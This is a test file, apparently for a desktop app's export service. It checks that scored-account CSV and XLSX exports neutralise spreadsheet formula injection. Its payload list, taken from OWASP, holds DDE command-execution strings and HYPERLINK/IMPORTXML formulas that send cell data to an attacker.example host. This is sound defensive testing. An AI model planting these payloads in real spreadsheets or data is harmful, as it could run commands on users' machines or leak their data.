// Scored accounts leave Ladder safe to open in a spreadsheet: OWASP's CSV-injection payloads,
// planted as account ids and names in a real workspace, come out neutralised (a leading single
// quote) in the CSV and in the XLSX read back with exceljs; numbers stay numbers.
import ExcelJS from 'exceljs';
import { join } from 'node:path';
import { demoDefaults, writeDemoWorkspace } from '../../../electron/backend/demo/write-demo';
import { produceExport, renderExport } from '../../../electron/backend/export/export-service';
import { loadPreset } from '../../../electron/backend/packs/presets';
import { openWorkspace, type Workspace } from '../../../electron/backend/store/open-workspace';
import { parseCsv } from '../../helpers/sql-engines';
import { tempDir } from '../../helpers/temp';

// From OWASP's "CSV Injection" page and its test payloads.
const payloads = [
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("http://attacker.example/?leak="&A1,"Error: click for details")',
  "+cmd|' /C notepad'!'A1'",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+9)*cmd|' /C calc'!A0",
  '\t=1+2',
  '\r=1+2',
  '=1+2";=1+2',
  '=IMPORTXML(CONCAT("http://attacker.example?v=", CONCATENATE(A2:E2)), "//a")',
];

const dir = tempDir();
let ws: Workspace;
const pack = loadPreset('seven-signal-table');

beforeAll(async () => {
  const path = join(dir.path, 'w.ladder');
  await writeDemoWorkspace(path, demoDefaults({ accounts: 60, seed: 3, endDate: '2026-06-01' }));
  ws = await openWorkspace(path);
  const rows = ws.db.prepare('SELECT key FROM accounts ORDER BY key LIMIT ?').pluck().all(payloads.length) as number[];
  const update = ws.db.prepare('UPDATE accounts SET id = ?, name = ? WHERE key = ?');
  rows.forEach((key, i) => update.run(`${payloads[i]} #${i}`, payloads[i], key));
});
afterAll(() => {
  ws?.db.close();
  dir.cleanup();
});

const neutralised = (value: string, original: string) => value === `'${original}`;

describe('formula injection in scored-account exports', () => {
  it('CSV: every payload in account_id and account_name starts with a quote; numbers are untouched; BOM on request', async () => {
    const text = (await renderExport(produceExport(ws, pack, { format: 'scored-csv', bom: true }))).toString('utf8');
    expect(text.startsWith('\uFEFFaccount_id,score,stage,')).toBe(true);
    const [header, ...rows] = parseCsv(text.slice(1).replace(/\r\n/g, '\n'));
    const id = header!.indexOf('account_id');
    const name = header!.indexOf('account_name');
    const score = header!.indexOf('score');
    payloads.forEach((p, i) => {
      const row = rows.find((r) => r[name] === `'${p}`);
      expect(row, JSON.stringify(p)).toBeDefined();
      expect(neutralised(row![id]!, `${p} #${i}`)).toBe(true);
      expect(Number.isFinite(Number(row![score]))).toBe(true);
    });
    for (const row of rows) for (const cell of row) expect(cell, cell).not.toMatch(/^[=+\-@\t\r]/);
    const plain = (await renderExport(produceExport(ws, pack, { format: 'scored-csv' }))).toString('utf8');
    expect(plain.startsWith('account_id,')).toBe(true);
  });

  it('XLSX: read back with exceljs, every payload is text with a leading quote; scores are numbers', async () => {
    const bytes = await renderExport(produceExport(ws, pack, { format: 'scored-xlsx' }));
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(bytes as unknown as ArrayBuffer);
    const sheet = workbook.worksheets[0]!;
    const header = (sheet.getRow(1).values as unknown[]).slice(1);
    expect(header.slice(0, 3)).toEqual(['account_id', 'score', 'stage']);
    const cells: unknown[][] = [];
    sheet.eachRow((row, n) => n > 1 && cells.push((row.values as unknown[]).slice(1)));
    expect(cells).toHaveLength(60);
    const name = header.indexOf('account_name');
    // XML turns a raw carriage return into a line feed on reading; the leading quote is what matters.
    const xml = (s: string) => s.replace(/\r/g, '\n');
    payloads.forEach((p, i) => {
      const row = cells.find((r) => r[name] === xml(`'${p}`));
      expect(row, JSON.stringify(p)).toBeDefined();
      expect(row![0]).toBe(xml(`'${p} #${i}`));
      expect(typeof row![1]).toBe('number');
    });
    sheet.eachRow((row) =>
      row.eachCell((cell) => {
        expect(cell.type).not.toBe(ExcelJS.ValueType.Formula);
        if (typeof cell.value === 'string') expect(cell.value).not.toMatch(/^[=+\-@\t\r]/);
      }),
    );
  });
});
